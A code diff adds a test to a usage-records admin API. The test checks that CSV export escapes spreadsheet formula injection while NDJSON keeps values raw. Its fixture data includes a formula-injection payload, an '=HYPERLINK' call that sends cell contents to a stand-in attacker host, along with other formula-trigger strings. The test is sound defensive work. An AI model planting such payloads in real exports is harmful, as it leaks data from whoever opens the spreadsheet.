@@ -104,6 +104,28 @@ async def test_csv_export_when_asked_by_accept(
     assert table[0]["total_tokens"] == "15" and table[0]["day"] == "2026-04-01"
     assert table[0]["created_at"].endswith("Z")
 
+
+async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], db: Database, make_tenant: MakeTenant
+) -> None:
+    """An end user chooses their JWT `sub`: `=HYPERLINK(…)` must not be a live formula in the
+    finance team's spreadsheet. NDJSON keeps the value as recorded."""
+    tenant = (await make_tenant())["id"]
+    day = date(2026, 4, 2)
+    users = ['=HYPERLINK("https://evil.example/?"&A1)', "+1", "-2+3", "@SUM(1)", "al=ice"]
+    rows = [record(tenant, day, user=user) for user in users]
+    await add(db, *rows)
+    params = {"start": "2026-04-02", "end": "2026-04-02", "tenant_id": tenant}
+    response = await client.get(
+        "/admin/usage/records", params=params, headers={**admin_headers, "accept": "text/csv"}
+    )
+    table = {row["run_id"]: row["user"] for row in csv.DictReader(io.StringIO(response.text))}
+    assert [table[row.run_id] for row in rows] == [*("'" + u for u in users[:4]), "al=ice"]
+    ndjson = await client.get("/admin/usage/records", params=params, headers=admin_headers)
+    assert {line["run_id"]: line["user"] for line in lines(ndjson)} == {
+        row.run_id: row.user for row in rows
+    }
+
     # The client's preference decides (q-values); a tie, or anything else, is NDJSON.
     for accept, kind in [
         ("text/csv;q=0", "application/x-ndjson"),
